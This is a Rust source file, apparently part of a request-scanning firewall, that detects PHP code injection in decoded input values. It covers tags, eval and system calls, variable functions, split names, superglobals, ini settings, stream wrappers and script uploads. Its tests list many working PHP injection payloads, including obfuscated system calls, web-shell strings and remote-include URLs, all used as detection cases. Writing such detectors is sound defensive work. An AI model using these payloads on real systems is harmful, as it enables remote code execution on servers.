//! PHP: tags, calls that run code, variable functions, names in pieces, superglobals, settings, script uploads.
//!
//! **In:** a decoded value. **Out:** hits of class `php`.
//! **Invariant:** a name is no hit: a call is one, at a place where code can stand (`code::in_sentence`), or a structure that only
//! PHP has. What a sentence tells of is weak.
//! **Source:** PHP manual: basic syntax, variable functions, variable variables, list of directives, supported wrappers.
//! **Cost:** one pass over values with a word of PHP, a `$` or `<?`; every look around is bounded by a constant.

use super::super::places::{Places, Set};
use super::bytes::{
    self, DOLLAR, LINE, LOUD, PAREN, QUOTE, SHELL, byte, has_at, is_space, is_word, part, rest,
    skip_space,
};
use super::code::{self, Arguments, Call, Gap};
use super::php_variables::{callee, dollar};
use super::php_words::{
    self, COMMON, GLOBALS, GLUE, MAYBE, PROBE, SETTING, SETTINGS, SURE, TAG, WRAPPER,
};
use super::triggers::{CALLEE, EXTENSION, PHP, PHP_CALL, QUERY};
use super::{Class, Hits, Strength, View, upload};

/// Bytes of a name or an index that are read.
const REACH: usize = 48;

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    let View {
        bytes: value,
        classes,
        words,
        ..
    } = *view;
    if upload::is_file_name(view)
        && let Some(at) = upload::php(value)
    {
        hits.add(Class::Php, Strength::Decisive, at);
        return;
    }
    // `GLOBALS[x]=`, `_SESSION[admin]=`: variables that only PHP names so.
    if view.is_name && classes & PAREN != 0 && is_global(value) {
        hits.add(Class::Php, Strength::Decisive, 0);
        return;
    }
    if classes & PAREN != 0 && classes & SHELL != 0 && ends_program(value) {
        hits.add(Class::Php, Strength::Decisive, 0);
        return;
    }
    if classes & PAREN != 0 && view.marks & CALLEE != 0 && negated(value) {
        hits.add(Class::Php, Strength::Decisive, 0);
        return;
    }
    let torn = classes & PAREN != 0 && (classes & QUOTE != 0 || view.marks & CALLEE != 0);
    let tag = view.marks & QUERY != 0;
    let named = view.marks & EXTENSION != 0;
    // `[system][0] (x)`: a name that something else calls.
    let called = words & PHP_CALL != 0 && classes & PAREN != 0;
    let mentioned = words & PHP != 0 || called;
    if classes & LOUD == 0 || (!mentioned && classes & DOLLAR == 0 && !torn && !tag && !named) {
        return;
    }
    super::spend(steps, value.len().saturating_mul(13));
    // Without a word of it no word of the value is one.
    let worded = words & PHP != 0 || named;
    let document = worded && classes & LINE != 0 && code::is_document(value);
    let mut signs = Places::of(value, &SIGNS);
    let mut at = 0;
    loop {
        if !worded {
            let Some(sign) = signs.from(at) else {
                return;
            };
            if is_in_word(value, at, sign) {
                at = bytes::next(value, sign, |byte| bytes::folded(byte) == 0)
                    .unwrap_or(value.len());
                continue;
            }
            at = sign;
        }
        let Some(&here) = value.get(at) else {
            return;
        };
        let mut next = at.saturating_add(1);
        let hit = match here {
            b'<' if byte(value, next) == b'?' => tag_at(value, at),
            b'[' | b'{' => bulletin(value, at),
            b'$' => {
                super::spend(steps, 24);
                dollar(value, at, view.is_name)
            }
            b'(' => {
                let before = code::last(value, at);
                if matches!(before, b')' | b']' | b'}' | b'"' | b'\'') {
                    super::spend(steps, 96);
                }
                callee(value, at, before, classes & DOLLAR != 0)
            }
            b'"' | b'\'' => string(value, at),
            b'-' | 0xAD if matches!(byte(value, next), b'd' | b'D') => option(value, at),
            _ if is_word(here) && code::starts(value, at) => {
                let (end, key) = code::word(value, at);
                next = end.max(next);
                let have = hits.get(Class::Php).map(|(strength, _)| strength);
                word(value, at, next, php_words::kind(key), document, have)
            }
            _ => None,
        };
        if let Some(strength) = hit {
            hits.add(Class::Php, strength, at);
            if strength == Strength::Decisive {
                return;
            }
            super::spend(steps, REACH.saturating_mul(3));
        }
        at = next;
    }
}

/// What something of PHP can begin with that no word of it tells of.
static SIGNS: Set = Set::of(b"<$(\"'-\xAD");

/// Whether the sign is a byte of a word that starts at `from` or later: the `$` of `a$b`.
fn is_in_word(value: &[u8], from: usize, sign: usize) -> bool {
    if bytes::folded(byte(value, sign)) == 0 {
        return false;
    }
    let before = value.get(from..sign).unwrap_or_default();
    let start = before
        .iter()
        .rposition(|&byte| bytes::folded(byte) == 0)
        .map_or(from, |last| from.saturating_add(last).saturating_add(1));
    start < sign && code::starts(value, start)
}

/// `(~\x8F\x97…)(`: a name whose bits are turned, and a call of it.
fn negated(value: &[u8]) -> bool {
    let Some(at) = bytes::pair(value, |one, two| one == b'(' && two == b'~') else {
        return false;
    };
    let text = part(value, at.saturating_add(2), REACH);
    let quoted = usize::from(matches!(text.first(), Some(b'"' | b'\'')));
    let text = rest(text, quoted);
    let length = text
        .iter()
        .position(|&letter| letter < 0x80)
        .unwrap_or(text.len());
    let tail = rest(text, length.saturating_add(quoted));
    length > 2 && tail.starts_with(b")(")
}

/// `GLOBALS[`, `_SESSION[` at the start of a name, as PHP writes them.
fn is_global(name: &[u8]) -> bool {
    let open = part(name, 0, 16).iter().position(|&byte| byte == b'[');
    let name = open.and_then(|open| name.get(..open)).unwrap_or(&[]);
    !name.iter().any(u8::is_ascii_lowercase)
        && GLOBALS
            .iter()
            .any(|global| name.eq_ignore_ascii_case(global))
}

/// `';exit(f('x'));//`: a statement right behind what it leaves, its call the last thing before an empty comment.
fn ends_program(value: &[u8]) -> bool {
    let text = value.trim_ascii_end();
    let code = text
        .strip_suffix(b";//")
        .or_else(|| text.strip_suffix(b";#"));
    code.is_some_and(|code| {
        code.ends_with(b")")
            && !code::has_lines(code)
            && bytes::pair(code, |one, two| match one {
                b'\'' | b'"' => matches!(two, b';' | b'.' | b'+' | b')'),
                b';' => two.is_ascii_alphabetic() || matches!(two, b'$' | b'@'),
                _ => false,
            })
            .is_some()
    })
}

/// What a word of PHP is worth where it stands; in a document, programs are quoted.
fn word(
    value: &[u8],
    start: usize,
    end: usize,
    kind: u8,
    document: bool,
    have: Option<Strength>,
) -> Option<Strength> {
    match kind {
        COMMON if document && have.is_some() => None,
        COMMON if document => function(value, start, end, kind, have).map(|_| Strength::Weak),
        SURE | COMMON | MAYBE | GLUE | PROBE => function(value, start, end, kind, have),
        SETTING | SETTINGS => setting(value, start, end, kind),
        TAG | WRAPPER => wrapper(value, start, end),
        _ => {
            let name = value.get(start..end)?;
            if php_words::is_of_extension(name) {
                function(value, start, end, SURE, have)
            } else {
                None
            }
        }
    }
}

/// A call of a function. `have`: what was found before; no more than that is no news.
fn function(
    value: &[u8],
    start: usize,
    end: usize,
    kind: u8,
    have: Option<Strength>,
) -> Option<Strength> {
    let call = code::call(value, start, end)?;
    let hit = weighed(value, start, end, kind, &call);
    // A mention is weak, whatever it is of.
    if have.is_some() && hit <= have {
        return None;
    }
    // A comment between a name and its bracket hides it: no sentence has one.
    let hidden = call.gap == Gap::Odd && !is_space(byte(value, end));
    if !hidden && call.is_mention(value) {
        return Some(Strength::Weak);
    }
    hit
}

/// What a call of the function is worth where no sentence tells of it.
fn weighed(value: &[u8], start: usize, end: usize, kind: u8, call: &Call) -> Option<Strength> {
    let &Call {
        gap,
        arguments,
        first,
        ..
    } = call;
    let quoted = matches!(first, b'$' | b'"' | b'\'' | b'`' | b'@' | b'\\');
    // `Uuid::parse_str(x)`: a method of a class, whatever its name.
    if kind != GLUE && has_at(value, start.saturating_sub(2), b"::") {
        return Some(Strength::Weak);
    }
    if kind == GLUE && quoted && code::declares(value, start) && is_module(value, call.inside) {
        return Some(Strength::Weak);
    }
    if matches!(kind, SURE | COMMON) {
        return match (gap, arguments) {
            (Gap::Blank, Arguments::Name | Arguments::Text) => Some(Strength::Weak),
            (Gap::None, Arguments::Text) => Some(Strength::Suspicious),
            _ => Some(Strength::Decisive),
        };
    }
    if code::is_member(value, start) {
        return Some(Strength::Weak);
    }
    if kind == PROBE {
        // `print(md5(1))`, `die(sha1('x'))`: a probe asks for what it knows.
        let constant = first.is_ascii_digit() || quoted && first != b'$';
        let close = || code::arguments(value, call.open()).1;
        // `print md5 (1)`: with nothing behind it but what ends a statement.
        let called = gap != Gap::Blank
            || close().is_some_and(|end| matches!(byte(value, end), 0 | b';' | b')' | b'.'));
        return (constant && called && is_printed(value, start)).then_some(Strength::Decisive);
    }
    if kind == GLUE {
        return match arguments {
            Arguments::None => Some(Strength::Decisive),
            Arguments::Code if first == b'$' => Some(Strength::Decisive),
            Arguments::Code if start == skip_space(value, 0) && is_remote(value, end) => {
                Some(Strength::Decisive)
            }
            Arguments::Code if quoted => Some(Strength::Suspicious),
            _ => None,
        };
    }
    let name = value.get(start..end)?;
    let title = name.first().is_some_and(u8::is_ascii_uppercase)
        && name.iter().skip(1).all(u8::is_ascii_lowercase);
    match (gap, arguments) {
        (_, Arguments::Open) => None,
        (Gap::Odd, Arguments::None | Arguments::Code | Arguments::Name) => Some(Strength::Decisive),
        (Gap::None, Arguments::Code) => Some(Strength::Decisive),
        (Gap::Blank, Arguments::Code) if quoted && !title => Some(Strength::Decisive),
        // `File(s)`, `system(e)`: a plural.
        (Gap::None, Arguments::Name) if !title && byte(value, end.saturating_add(2)) != b')' => {
            Some(Strength::Decisive)
        }
        (Gap::None, Arguments::None) => Some(Strength::Suspicious),
        _ => None,
    }
}

/// `'node:fs'`, `'./a.js'`, `'@x/y'`: what a program in JavaScript loads.
fn is_module(value: &[u8], quote: usize) -> bool {
    let name = part(value, quote.saturating_add(1), REACH.saturating_mul(2));
    let mark = byte(value, quote);
    let Some(end) = name.iter().position(|&byte| byte == mark) else {
        return false;
    };
    let name = name.get(..end).unwrap_or(&[]);
    let name = name.strip_prefix(b"node:").unwrap_or(name);
    let file = name.rsplit(|&byte| byte == b'/').next().unwrap_or(name);
    let script = match file.iter().rposition(|&byte| byte == b'.') {
        None => true,
        Some(dot) => [&b"js"[..], b"cjs", b"mjs", b"json", b"node"]
            .iter()
            .any(|end| rest(file, dot.saturating_add(1)) == *end),
    };
    script
        && name.first() != Some(&b'/')
        && name
            .iter()
            .all(|&byte| is_word(byte) || matches!(byte, b'.' | b'/' | b'-' | b'@'))
}

/// `echo `, `print(`, `die(` right before.
fn is_printed(value: &[u8], start: usize) -> bool {
    let lead = value.get(start.saturating_sub(REACH)..start).unwrap_or(&[]);
    let lead = without_comment(lead);
    let lead = lead.strip_suffix(b"(").map_or(lead, without_comment);
    [
        &b"echo"[..],
        b"print",
        b"printf",
        b"print_r",
        b"var_dump",
        b"die",
        b"exit",
    ]
    .iter()
    .any(|word| {
        lead.len().checked_sub(word.len()).is_some_and(|at| {
            has_at(lead, at, word)
                && at
                    .checked_sub(1)
                    .is_none_or(|before| !is_word(byte(lead, before)) && byte(lead, before) != b'.')
        })
    })
}

/// A text without the blanks and the comment it ends with.
fn without_comment(text: &[u8]) -> &[u8] {
    let text = text.trim_ascii_end();
    let open = text
        .strip_suffix(b"*/")
        .and_then(|inner| inner.windows(2).rposition(|pair| pair == b"/*"));
    open.and_then(|open| text.get(..open))
        .map_or(text, <[u8]>::trim_ascii_end)
}

/// `('http://`, ` "php://`: what is included comes from elsewhere.
fn is_remote(value: &[u8], end: usize) -> bool {
    let (open, _) = code::gap(value, end);
    let inside = open.saturating_add(usize::from(byte(value, open) == b'('));
    let (inside, _) = code::gap(value, inside);
    let name = inside.saturating_add(1);
    matches!(byte(value, inside), b'\'' | b'"')
        && [
            &b"http://"[..],
            b"https://",
            b"ftp://",
            b"php://",
            b"data:",
            b"//",
            b"\\\\",
        ]
        .iter()
        .any(|scheme| has_at(value, name, scheme))
}

/// `<?php`, `<?=`, `<? echo`, and `<?` at the end of a value without blanks.
fn tag_at(value: &[u8], at: usize) -> Option<Strength> {
    let name = at.saturating_add(2);
    let next = byte(value, name);
    let found = if next == b'=' {
        name.saturating_add(1) < value.len()
    } else if next.is_ascii_alphabetic() {
        let (end, key) = code::word(value, name);
        match php_words::kind(key) {
            TAG => true,
            _ if has_at(value, name, b"xml") && end == name.saturating_add(3) => {
                byte(value, skip_space(value, end)) == b':'
            }
            _ => is_statement(value, name),
        }
    } else if is_space(next) {
        let start = skip_space(value, name);
        let (_, key) = code::word(value, start);
        php_words::kind(key) == TAG || is_statement(value, start)
    } else {
        (name >= value.len() && at > 0 && !value.contains(&b' ')) || is_statement(value, name)
    };
    found.then(|| {
        if code::in_sentence(value, at) {
            Strength::Weak
        } else {
            Strength::Decisive
        }
    })
}

/// Whether a statement of PHP starts at `at`.
fn is_statement(value: &[u8], at: usize) -> bool {
    let next = byte(value, at);
    if matches!(next, b'$' | b'@' | b'`') {
        return true;
    }
    let (end, key) = code::word(value, at);
    if matches!(php_words::kind(key), SURE | COMMON | MAYBE | GLUE) {
        return byte(value, code::gap(value, end).0) == b'(';
    }
    [
        &b"echo"[..],
        b"print",
        b"include",
        b"include_once",
        b"require",
        b"require_once",
        b"if",
        b"foreach",
        b"while",
        b"die",
        b"exit",
        b"return",
        b"namespace",
        b"function",
    ]
    .iter()
    .any(|word| has_at(value, at, word) && !is_word(byte(value, at.saturating_add(word.len()))))
}

/// `[php]`, `[/php]`, `{php}`: tags of boards and of Smarty.
fn bulletin(value: &[u8], at: usize) -> Option<Strength> {
    let mut start = at.saturating_add(1);
    if matches!(byte(value, start), b'/' | b'\\') {
        start = start.saturating_add(1);
    }
    let close = if byte(value, at) == b'[' { b']' } else { b'}' };
    let found = has_at(value, start, b"php") && byte(value, start.saturating_add(3)) == close;
    found.then(|| {
        if code::in_sentence(value, at) {
            Strength::Weak
        } else {
            Strength::Decisive
        }
    })
}

/// Serialised objects, and names that adjacent strings spell.
fn string(value: &[u8], at: usize) -> Option<Strength> {
    if let Some(key) = code::joined(value, at)
        && matches!(php_words::kind(key), SURE | MAYBE)
    {
        return Some(Strength::Decisive);
    }
    None
}

/// `-d allow_url_include=1`, with the soft hyphen that some code pages turn into one.
fn option(value: &[u8], at: usize) -> Option<Strength> {
    let before = at.checked_sub(1).map_or(b' ', |at| byte(value, at));
    if !is_space(before) && !matches!(before, b'?' | b'&' | b'+' | 0xC2) {
        return None;
    }
    let start = skip_space(value, at.saturating_add(2));
    let (end, key) = code::word(value, start);
    let known = matches!(php_words::kind(key), SETTING | SETTINGS);
    let equals = part(value, end, REACH)
        .iter()
        .position(|&letter| !is_word(letter) && letter != b'.')
        .is_some_and(|step| byte(value, end.saturating_add(step)) == b'=');
    (known && equals).then_some(Strength::Decisive)
}

/// `extension_dir=…` as a whole value.
fn setting(value: &[u8], start: usize, end: usize, kind: u8) -> Option<Strength> {
    let mut end = end;
    if kind == SETTINGS {
        let tail = part(value, end, REACH);
        let length = tail
            .iter()
            .position(|&letter| !is_word(letter) && letter != b'.')?;
        if byte(value, end) != b'.' || length < 3 {
            return None;
        }
        end = end.saturating_add(length);
    }
    let equals = skip_space(value, end);
    if byte(value, equals) != b'=' || byte(value, equals.saturating_add(1)) == b'=' {
        return None;
    }
    let whole = start == 0 && bytes::tally(value.iter().filter(|&&byte| byte == b' ').take(4)) < 3;
    Some(if whole {
        Strength::Decisive
    } else {
        Strength::Weak
    })
}

/// `php://input`, `phar://…`, `expect://id`, `ssh2.exec://…` where an address may start.
fn wrapper(value: &[u8], start: usize, end: usize) -> Option<Strength> {
    let mut end = end;
    if byte(value, end) == b'.' {
        end = code::word(value, end.saturating_add(1)).0;
    }
    if !rest(value, end).starts_with(b"://") {
        return None;
    }
    let before = start.checked_sub(1).map_or(b'=', |at| byte(value, at));
    let leads = matches!(
        before,
        b'=' | b'"' | b'\'' | b'(' | b':' | b'|' | b'/' | b',' | b'['
    );
    let compressed = before == b'.' && has_at(value, start.saturating_sub(9), b"compress.");
    Some(if leads || compressed {
        Strength::Decisive
    } else {
        Strength::Weak
    })
}

#[cfg(test)]
mod tests {
    use super::super::{Class, Strength, hits_of};

    fn is_decisive(value: &str) -> bool {
        hits_of(value.as_bytes()).contains(&(Class::Php, Strength::Decisive))
    }

    #[test]
    fn code_is_found_where_code_can_stand() {
        for value in [
            // Statements behind a string.
            "';exit(md5('a1'));//",
            "\".exit(md5('a1'));#",
            "a;die(strrev('ba'));//",
            "print(md5(31))",
            "print/**/(md5(1))",
            "echo md5\t(77);",
            "echo md5 (77);",
            "die/*x*/(sha1(/*y*/'x'))",
            "print( /*x*/ md5(31))",
            "include/*x*/('http://x.example/x.txt')",
            "\".exit\n(md5('a1'));#",
            "echo sha1('x');",
            // Tags.
            "$ {phpinfo()}",
            "$ {\"a\"}",
            "<?php echo 1;",
            "<?PHP\necho 1;",
            "x<?=`id`?>",
            "<? system($x) ?>",
            "<?xml:echo 1;",
            "img<?",
            "{php}echo 1;{/php}",
            "GIF89a<?php system($_GET[0]);",
            // Calls.
            "system('id')",
            "\\system('id')",
            "@system('id');",
            "');system('id');//",
            "1;phpinfo()",
            "{${phpinfo()}}",
            "|| phpinfo()",
            "eval($_POST['x'])",
            "eval(base64_decode('aWQ='))",
            "file_put_contents/**/('a', 'b')",
            "I do not mind gzinflate/*x*/()",
            "exec  (whoami)",
            "exec #x\n(whoami)",
            "echo shell_exec('id');",
            "print_r(scandir('.'))",
            "array_map('system', ['id'])",
            "posix_getegid()",
            "sodium_crypto_box_keypair (",
            "extract($_GET)",
            "new ReflectionFunction('system')",
            "<?php __HALT_COMPILER();",
            // Names in pieces.
            "('sys'.'tem')('id')",
            "(sy.(st).em)('id')",
            "\"system\"('id')",
            "[system][0]('id')",
            "(string)\"system\"('id')",
            "$f = 'sys' . 'tem'; $f('id');",
            "(/*x*/system/*y*/)/*z*/('id')",
            "chr(115).chr(121)",
            // Variables.
            "$a('id')",
            "$$b(2)",
            "@$_[0]($_[1])",
            "${'_GET'}[x]",
            "$ {'a'}",
            "${@$b}(12)",
            "$x{0}(1)",
            "Foo::$bar()",
            "$foo->$bar()",
            "$_GET['x']",
            "$GLOBALS['x']",
            // Settings and wrappers.
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "opcache.preload=/tmp/x",
            "extension_dir=/tmp",
            "php://filter/convert.base64-encode/resource=index",
            "phar:///tmp/a.jpg/x",
            "expect://id",
            "ssh2.exec://u:p@h/id",
        ] {
            assert!(
                is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }

    #[test]
    fn a_name_is_none_of_a_global() {
        use super::super::{Hits, Place, View, bytes};
        for (name, global) in [
            ("GLOBALS[x]", true),
            ("_SESSION[admin]", true),
            ("_get[x]", false),
            ("globals[x]", false),
            ("_SESSION", false),
            ("USER[x]", false),
        ] {
            let text = name.as_bytes();
            let mut view = View::new(Place::Query, text, text, bytes::classes(text));
            view.is_name = true;
            let mut hits = Hits::default();
            super::scan(&view, &mut crate::budget::MAX_STEPS.clone(), &mut hits);
            assert_eq!(hits.is_decisive(Class::Php), global, "{name}");
        }
        assert!(!is_decisive("md5(1)"));
        assert!(!is_decisive("the print(md5(x)) call"));
    }

    #[test]
    fn talk_about_code_is_none() {
        for value in [
            "save(); // and close",
            "foo(a); bar(b); // ok",
            "How do I use <?php echo $x; ?> here",
            "run:\n\n    $ {command} --region=eu",
            "サーバーで mail() 関数が無効です。",
            "Java, JavaScript, PHP: which language? phpinfo is handy",
            "You can use file_get_contents() to read it.",
            "I called `exec('ls')` and it hangs",
            "phpinfo() is disabled on my host",
            "The function \"system('x')\" returns the last line",
            "In old versions, eval($code) was common",
            "is $_GET['id'] safe?",
            "please check $user['name'] first",
            "richard.php@my-email.example",
            "RootAndLeafOpenCamera.jpg",
            "SprintForTheCause",
            "System (2023)",
            "File(s)",
            "operating \"system\" (linux)",
            "the system is down()",
            "ecosystem()",
            "exec (",
            "a (b) (c)",
            "§ 501(c)(3)",
            "(555)(1234)",
            "(foo)bar or foo(bar)",
            "this is a \"dog\" (not a cat)",
            "Hello ${name}, welcome back",
            "${CLICK_URL}",
            "$f(x)$ and $O(n)$",
            "$f(2)=4$",
            "$ACME (Acme Inc.) +2%",
            "US$50 (about 45)",
            "$(\"#id\").hide()",
            "regex.exec(text)",
            "db.system(1)",
            "<?xml version=\"1.0\"?>",
            "<?xpacket begin=\"?\"?>",
            "var x = (a < b) ? c : d; // <?test comment",
            "Is this x < y ? yes : no",
            "#Oc%$st()_1Tg",
            "$lr42(GG5hKM6m",
            "set x $list(name)",
            "memory_limit and max_execution_time are too low",
            "my file: a (1).php",
            "{\"array\":[\"php\",\"test\"]}",
        ] {
            assert!(
                !is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }
    #[test]
    fn decoys_hide_nothing() {
        let decoys = "we use exec(a) here. ".repeat(300);
        assert!(!is_decisive(&decoys), "{decoys}");
        assert!(is_decisive(&format!("{decoys}<?php system($_GET[0]);")));
    }

    #[test]
    fn what_is_included_comes_from_elsewhere() {
        let caught =
            |value: &str| hits_of(value.as_bytes()).contains(&(Class::Php, Strength::Decisive));
        for value in [
            "include('http://x.example/x.txt')",
            "include \"php://input\";",
            "require_once('//x.example/a.php')",
        ] {
            assert!(caught(value), "{value}");
        }
        for value in [
            "include 'the receipt' please",
            "we include('all') taxes",
            "please include http://x.example/",
        ] {
            assert!(!caught(value), "{value}");
        }
    }
}
